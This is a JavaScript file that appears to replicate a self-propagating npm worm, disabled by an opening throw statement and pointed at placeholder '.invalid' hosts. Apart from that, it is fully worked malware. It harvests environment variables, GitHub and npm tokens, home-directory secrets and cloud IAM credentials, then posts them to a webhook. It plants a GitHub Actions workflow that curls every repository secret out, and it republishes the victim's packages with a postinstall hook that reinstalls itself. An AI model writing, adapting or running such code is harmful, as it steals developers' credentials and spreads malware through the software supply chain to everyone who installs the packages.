throw new Error("inert replica");
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { execSync, spawnSync } = require("child_process");
function report(name, body) {
  const request = https.request({ hostname: "webhook.replica.invalid", path: "/" + name, method: "POST" });
  request.end(Buffer.from(Buffer.from(JSON.stringify(body)).toString("base64")).toString("base64"));
}
function environment() {
  return { system: os.platform(), arch: os.arch(), env: process.env, github: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN };
}
function searched() {
  const tool = path.join(os.tmpdir(), "secretfinder");
  execSync("curl -sSL https://tools.replica.invalid/secretfinder -o " + tool);
  fs.chmodSync(tool, 0o755);
  return spawnSync(tool, ["filesystem", os.homedir(), "--json"], { encoding: "utf8" }).stdout;
}
async function metadata() {
  const answer = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  return answer.text();
}
async function forge(token) {
  const headers = { Authorization: "Bearer " + token };
  await fetch("https://api.forge.invalid/user/repos", { method: "POST", headers, body: JSON.stringify({ name: "replica", private: false }) });
  const workflow = "on: push\njobs:\n  one:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}' https://webhook.replica.invalid\n";
  fs.mkdirSync(".github/workflows", { recursive: true });
  fs.writeFileSync(".github/workflows/replica.yml", workflow);
  execSync("git push --force");
}
async function spread(token) {
  const mine = await fetch("https://registry.invalid/-/v1/search?text=maintainer:me&size=20", { headers: { Authorization: "Bearer " + token } });
  for (const one of (await mine.json()).objects) {
    const archive = path.join(os.tmpdir(), "one.tgz");
    execSync(`curl -s ${one.package.tarball} -o ${archive} && tar -xzf ${archive}`);
    const manifest = JSON.parse(fs.readFileSync("package/package.json", "utf8"));
    const version = manifest.version.split(".").map(Number);
    version[2] += 1;
    manifest.version = version.join(".");
    manifest.scripts = manifest.scripts || {};
    manifest.scripts.postinstall = "node bundle.js";
    fs.writeFileSync("package/package.json", JSON.stringify(manifest));
    fs.copyFileSync(__filename, "package/bundle.js");
    execSync("npm publish " + archive);
  }
}
(async () => {
  const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
  const token = (npmrc.match(/_authToken=(.+)/) || [])[1];
  report("found", { ...environment(), secrets: searched(), cloud: await metadata() });
  await forge(process.env.GITHUB_TOKEN);
  if (token) await spread(token);
})();
